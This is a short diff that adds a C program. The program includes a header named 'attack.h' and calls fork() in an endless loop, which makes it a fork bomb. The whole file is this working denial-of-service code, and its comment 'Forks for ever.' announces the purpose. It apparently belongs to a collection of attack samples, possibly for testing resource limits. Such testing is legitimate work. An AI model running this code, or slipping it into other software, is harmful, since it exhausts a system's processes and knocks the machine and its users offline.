@@ -1,0 +1,9 @@
+/* Forks for ever. */
+#include "attack.h"
+
+int main(void)
+{
+    for (;;) {
+        fork();
+    }
+}
